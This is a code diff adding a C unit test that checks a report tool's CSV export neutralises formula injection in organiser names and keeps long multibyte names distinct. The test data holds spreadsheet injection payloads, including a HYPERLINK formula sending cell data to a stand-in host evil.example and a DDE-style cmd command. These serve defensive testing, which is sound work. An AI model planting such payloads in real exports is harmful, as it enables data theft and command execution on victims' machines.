@@ -150,6 +150,52 @@ static void test_figures(void **state)
     tu_rmtree(&f.dir);
 }
 
+/* Organiser names from the network: a formula must not run in a
+ * spreadsheet, and long names that differ only past byte 158 (a two-byte
+ * letter astride it) stay two rows, neither dropped nor merged. */
+static void test_hostile_names(void **state)
+{
+    (void)state;
+    static const char *names[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")",
+                                  "+cmd|' /C calc'!A0", "@SUM(1+1)", NULL, NULL};
+    char long1[EVENT_MAX_SHORT + 1], long2[EVENT_MAX_SHORT + 1], *buf = NULL;
+    size_t len = 0;
+    fx_t f = {0};
+    f.dir = tu_tempdir();
+    snprintf(long1, sizeof long1, "%0158d\xc3\xa9Z", 0); /* 158 digits, é, Z */
+    snprintf(long2, sizeof long2, "%0158d\xc3\xa9Y", 0);
+    names[3] = long1, names[4] = long2;
+    char path[600];
+    snprintf(path, sizeof path, "%s/store.db", f.dir);
+    assert_int_equal(store_open(&f.st, path, NULL, 0), STORE_OK);
+    keys_generate(&f.a);
+    for (int i = 0; i < 5; i++) {
+        Lernet__Payload *p = tu_workshop("Arbetsplatslärande", NULL, FEB_2027 + 86400 * (i + 1));
+        free(p->workshop->organiser);
+        p->workshop->organiser = strdup(names[i]);
+        add(&f, f.a, 0, p);
+    }
+    json_t *rows = run(&f, REPORT_BY_ORG);
+    assert_non_null(rows);
+    assert_int_equal(json_array_size(rows), 6); /* five organisers and the total */
+    assert_int_equal(cell(rows, long1, "workshops"), 1);
+    assert_int_equal(cell(rows, long2, "workshops"), 1);
+    FILE *out = open_memstream(&buf, &len);
+    report_write_csv(rows, out);
+    fclose(out);
+    assert_non_null(strstr(buf, "\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klicka\"\")\",1,"));
+    assert_non_null(strstr(buf, "\n\"'+cmd|' /C calc'!A0\",1,"));
+    assert_non_null(strstr(buf, "\n\"'@SUM(1+1)\",1,"));
+    assert_null(strstr(buf, "\n="));
+    assert_null(strstr(buf, "\n+"));
+    free(buf);
+    json_decref(rows);
+    event_free(&f.heads[0]);
+    keys_free(&f.a);
+    store_close(&f.st);
+    tu_rmtree(&f.dir);
+}
+
 static void test_csv_from_cli(void **state)
 {
     (void)state;
@@ -171,6 +217,7 @@ int main(void)
 {
     keys_init();
     const struct CMUnitTest tests[] = {cmocka_unit_test(test_figures),
+                                       cmocka_unit_test(test_hostile_names),
                                        cmocka_unit_test(test_csv_from_cli)};
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
